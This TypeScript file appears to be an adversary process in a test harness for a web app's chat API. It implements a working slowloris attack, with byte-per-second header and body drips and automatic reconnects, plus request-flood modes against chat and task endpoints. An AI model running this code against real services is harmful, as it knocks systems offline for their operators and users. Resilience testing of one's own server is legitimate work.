import { connect } from "node:net"
import { Pool } from "undici"

/*
 * Whoever means ill, in a process of its own. ATTACK: `slow` keeps SOCKETS connections open, of which half send a byte of
 * their headers a second and half a byte of their body; `turns` and `reads` send one user's requests on SOCKETS
 * connections, each as soon as the last one is answered.
 */
const target = new URL(process.env["TARGET"] ?? "")
const attack = process.env["ATTACK"]
const sockets = Number(process.env["SOCKETS"])
const authorization = `Bearer ${process.env["TOKEN"]}`
const chat = `/api/v1/users/${process.env["USER_ID"]}/chat`

const slow = (n: number): void => {
  const socket = connect(Number(target.port), target.hostname)
  const head = `POST ${chat} HTTP/1.1\r\nHost: ${target.host}\r\nAuthorization: ${authorization}\r\nContent-Type: application/json\r\n`
  socket.write(n % 2 === 0 ? `${head}X-Slow: ` : `${head}Content-Length: 60000\r\n\r\n{"message":"`)
  // @effect-diagnostics-next-line globalTimers:off -- no Effect here
  const drip = setInterval(() => socket.write("a"), 1000)
  socket.resume()
  socket.on("error", () => socket.destroy())
  // Whoever is thrown out comes back.
  socket.on("close", () => {
    clearInterval(drip)
    slow(n)
  })
}

const floodOnce = async (pool: Pool, method: "GET" | "POST"): Promise<void> => {
  const { body } = await pool.request(
    method === "GET"
      ? { method, path: `/api/v1/users/${process.env["USER_ID"]}/tasks?limit=50`, headers: { authorization } }
      : {
          method,
          path: chat,
          headers: { authorization, "content-type": "application/json" },
          body: '{"message":"Add a task to buy groceries"}'
        }
  )
  await body.dump()
}

const flood = async (pool: Pool, method: "GET" | "POST"): Promise<never> => {
  // Whoever is thrown out comes back.
  while (true) await floodOnce(pool, method).catch(() => undefined)
}

if (attack === "slow") {
  for (let n = 0; n < sockets; n++) slow(n)
} else {
  const pool = new Pool(target.origin, { connections: sockets, pipelining: 1 })
  for (let n = 0; n < sockets; n++) void flood(pool, attack === "turns" ? "POST" : "GET")
}
// @effect-diagnostics-next-line globalConsole:off -- whoever started it waits for this line
console.log(`listens on ${target.origin}`)
